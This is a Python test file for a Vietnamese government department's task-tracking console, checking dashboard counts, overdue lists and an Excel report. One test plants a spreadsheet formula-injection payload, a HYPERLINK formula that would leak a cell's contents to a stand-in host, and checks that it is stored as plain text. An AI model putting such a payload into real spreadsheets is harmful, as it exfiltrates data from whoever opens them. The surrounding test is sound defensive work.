"""Tổng quan and Báo cáo Excel: counts per unit, the most overdue, notices by status, the workbook."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from console.report import HEADER_ROW
from storage.models import utcnow
from tests.fixtures.console import make_notice, make_task, table_rows
from tests.fixtures.db import both_databases

pytestmark = both_databases


@pytest.fixture
def week_of_work(runtime, settings, directory):
    """Tasks around this week: each one named for what it should count as."""
    zone = settings.zone
    today = utcnow().astimezone(zone).date()
    monday = today - timedelta(days=today.weekday())
    with runtime.session() as session:
        notice = make_notice(session, week=48)
        draft = make_notice(session, week=49, published=False)
        tasks = {
            "late_vp": make_task(session, notice, "1.1", "VP", last_day=monday - timedelta(days=1), people=("Lê Hùng",), zone=zone),
            "closed_lately": make_task(session, notice, "1.2", "VP", last_day=today, closed_days_ago=2,
                                       closed_by="Trần Thị Nhung", zone=zone),
            "closed_long_ago": make_task(session, notice, "1.3", "VP", last_day=None, closed_days_ago=10, zone=zone),
            "this_week": make_task(session, notice, "2.1", "QLCN", last_day=monday + timedelta(days=6), zone=zone),
            "next_month": make_task(session, notice, "2.2", "QLCN", last_day=today + timedelta(days=30), zone=zone),
            "very_late": make_task(session, notice, "2.3", "QLCN", last_day=monday - timedelta(days=10), zone=zone),
            "draft": make_task(session, draft, "1.1", "QLKH", last_day=monday - timedelta(days=20), published=False, zone=zone),
        }
    return {name: task.id for name, task in tasks.items()}, today


def unit_row(rows: list[list[str]], name: str) -> list[int]:
    (row,) = [r for r in rows if r[0] == name]
    return [int(cell) for cell in row[1:]]


def test_the_dashboard_counts_per_unit_and_names_the_most_overdue(client, week_of_work):
    ids, today = week_of_work
    page = client.get("/console/").get_data(as_text=True)
    units = table_rows(page, "units")
    # open, overdue, due this week, closed in the last 7 days
    assert unit_row(units, "Văn phòng Sở") == [1, 1, 0, 1]
    assert unit_row(units, "Phòng Quản lý Công nghệ và Đổi mới sáng tạo") == [3, 1, 1, 0]
    assert unit_row(units, "Phòng Quản lý Khoa học") == [0, 0, 0, 0]  # its only task is not published
    assert unit_row(units, "Toàn Sở") == [4, 2, 1, 1]

    late = table_rows(page, "most-late")[1:]
    assert [row[0] for row in late] == [f"#{ids['very_late']}", f"#{ids['late_vp']}"]
    monday = today - timedelta(days=today.weekday())
    assert late[0][4] == f"{(today - monday).days + 10} ngày"
    assert "Lê Hùng" in late[1][1]

    notices = {row[0].split(" tuan-")[0]: row[3] for row in table_rows(page, "notices")[1:]}
    assert notices["Thông báo kết luận tuần 49/2025"] == "Bản nháp"
    assert notices["Thông báo kết luận tuần 48/2025"].startswith("Đã công bố")


def sheet_rows(sheet) -> tuple[list[str], list[dict]]:
    """The header row (below the title block) and the rows under it, as dicts."""
    header = [c.value for c in sheet[HEADER_ROW]]
    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)
            if r and r[0] is not None]
    return header, rows


def test_the_excel_report_holds_every_published_task_and_a_summary_per_unit(client, week_of_work, settings):
    ids, today = week_of_work
    response = client.get("/console/report.xlsx")
    assert response.status_code == 200
    assert f'filename=bao-cao-nhiem-vu-{today:%Y-%m-%d}.xlsx' in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["Nhiệm vụ", "Tổng hợp theo đơn vị"]

    sheet = workbook["Nhiệm vụ"]
    title = [sheet.cell(row, 1).value for row in range(1, 6)]
    assert title[:4] == ["UBND TỈNH QUẢNG TRỊ", "SỞ KHOA HỌC VÀ CÔNG NGHỆ", "BÁO CÁO TÌNH HÌNH THỰC HIỆN NHIỆM VỤ",
                         "Toàn bộ nhiệm vụ đã công bố"]
    assert title[4].startswith("Lập lúc ") and f"{today:%d/%m/%Y}" in title[4]
    header, found = sheet_rows(sheet)
    assert header[:3] == ["Số", "Thông báo", "Mục"]
    assert {"Đơn vị phối hợp", "Người được giao lại", "Hạn (như văn bản)", "Hạn (ngày)", "Số ngày trễ", "Gia hạn",
            "Tiến độ"} <= set(header)
    rows = {r["Số"]: r for r in found}
    assert sorted(rows) == sorted(v for k, v in ids.items() if k != "draft")
    assert sheet.cell(HEADER_ROW + 1, 1).number_format == '"#"0'
    assert {r["Trạng thái"] for r in found} <= {"Đúng hạn", "Đang làm", "Quá hạn", "Xong đúng hạn", "Xong trễ"}

    late = rows[ids["late_vp"]]
    monday = today - timedelta(days=today.weekday())
    assert late["Thông báo"] == "Thông báo kết luận tuần 48/2025" and late["Đơn vị chủ trì"] == "Văn phòng Sở"
    assert late["Người được giao"] == "Lê Hùng"
    assert late["Hạn (ngày)"] == datetime.combine(monday - timedelta(days=1), datetime.min.time())  # a date
    assert late["Hạn (như văn bản)"] == f"trong ngày {monday - timedelta(days=1):%d/%m/%Y}"
    assert (late["Trạng thái"], late["Số ngày trễ"]) == ("Quá hạn", (today - monday).days + 1)

    closed = rows[ids["closed_lately"]]
    assert (closed["Trạng thái"], closed["Số ngày trễ"]) == ("Xong đúng hạn", 0)
    assert closed["Người báo xong"] == "Trần Thị Nhung"
    local_close = closed["Ngày xong"]
    assert abs(local_close - (utcnow() - timedelta(days=2)).astimezone(settings.zone).replace(tzinfo=None)) < timedelta(minutes=5)
    assert closed["Ghi chú"] == "đã trình Giám đốc"
    assert rows[ids["this_week"]]["Trạng thái"] == "Đúng hạn"
    assert rows[ids["closed_long_ago"]]["Trạng thái"] == "Xong đúng hạn"

    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"

    summary = workbook["Tổng hợp theo đơn vị"]
    heads, units = sheet_rows(summary)
    by_unit = {r["Đơn vị"]: r for r in units}
    vp = by_unit["Văn phòng Sở"]
    assert (vp["Tổng số"], vp["Quá hạn"], vp["Xong đúng hạn"], vp["Đúng hạn"]) == (3, 1, 2, 0)
    assert vp["Tỷ lệ hoàn thành"] == pytest.approx(2 / 3)
    assert by_unit["Toàn Sở"]["Tổng số"] == 6 and by_unit["Toàn Sở"]["Quá hạn"] == 2
    assert summary.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"


def test_a_report_for_one_notice_or_a_period(client, runtime, settings, directory):
    zone = settings.zone
    with runtime.session() as session:
        early = make_notice(session, week=6)
        early.meeting_on = date(2025, 2, 10)
        later = make_notice(session, week=7)
        later.meeting_on = date(2025, 2, 17)
        first = make_task(session, early, "1.1", "VP", last_day=date(2025, 2, 14), zone=zone,
                          text="=HYPERLINK(\"http://x.example/?leak=\"&B2,\"Xem\")")
        second = make_task(session, later, "1.1", "VP", last_day=date(2025, 2, 21), zone=zone)
        ids = (first.id, second.id)

    def numbers(**query) -> list[int]:
        sheet = load_workbook(io.BytesIO(client.get("/console/report.xlsx", query_string=query).data))["Nhiệm vụ"]
        return [r["Số"] for r in sheet_rows(sheet)[1]]

    assert numbers() == list(ids)
    assert numbers(notice=later.id) == [ids[1]]
    assert numbers(**{"from": "2025-02-15", "to": "2025-02-28"}) == [ids[1]]
    assert numbers(**{"to": "2025-02-11"}) == [ids[0]]
    assert numbers(notice="99999999999", page="x") == list(ids)  # what is not understood is no filter
    workbook = load_workbook(io.BytesIO(client.get("/console/report.xlsx", query_string={"notice": early.id}).data))
    cell = workbook["Nhiệm vụ"].cell(HEADER_ROW + 1, 8)
    assert cell.value.startswith("=HYPERLINK") and cell.data_type == "s"  # words, never a formula


def test_the_report_page_says_what_the_file_holds(client, week_of_work):
    page = client.get("/console/report").get_data(as_text=True)
    assert 'href="/console/report.xlsx"' in page and "Hiện có 6 nhiệm vụ đã công bố" in page
    assert "Báo cáo kết quả thực hiện Thông báo kết luận tuần 48/2025" in page
